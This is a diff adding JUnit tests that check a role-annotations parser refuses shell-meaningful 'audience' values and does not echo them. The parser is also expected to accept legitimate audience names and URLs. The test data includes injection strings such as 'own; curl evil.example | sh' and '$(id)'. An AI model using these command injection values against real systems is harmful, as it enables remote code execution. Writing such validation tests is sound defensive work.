@@ -53,6 +53,40 @@ final class RoleAnnotationsTest {
     assertThat(problem.passing()).isFalse();
   }
 
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "own; curl evil.example | sh",
+        "$(id)",
+        "`id`",
+        "a b",
+        "a\nb",
+        "a'b",
+        "a\"b",
+        "a\u0000b",
+        "ſts"
+      })
+  void anAudienceThatMeansSomethingToAShellIsRefusedAndNotRepeated(String audience) {
+    Problem problem =
+        requireNonNull(
+            read(Map.of(RoleAnnotations.ROLE_ARN, ROLE, RoleAnnotations.AUDIENCE, audience))
+                .problem());
+
+    assertThat(problem.reason()).isEqualTo("InvalidRole");
+    assertThat(problem.message()).doesNotContain(audience);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"sts.amazonaws.com", "https://kubernetes.default.svc", "urn:x:y", "own"})
+  void namesAndUrlsAreAudiences(String audience) {
+    assertThat(
+            requireNonNull(
+                    read(Map.of(RoleAnnotations.ROLE_ARN, ROLE, RoleAnnotations.AUDIENCE, audience))
+                        .annotations())
+                .audience())
+        .isEqualTo(audience);
+  }
+
   @Test
   void aRoleOfAnotherPartitionIsRefused() {
     Problem problem =
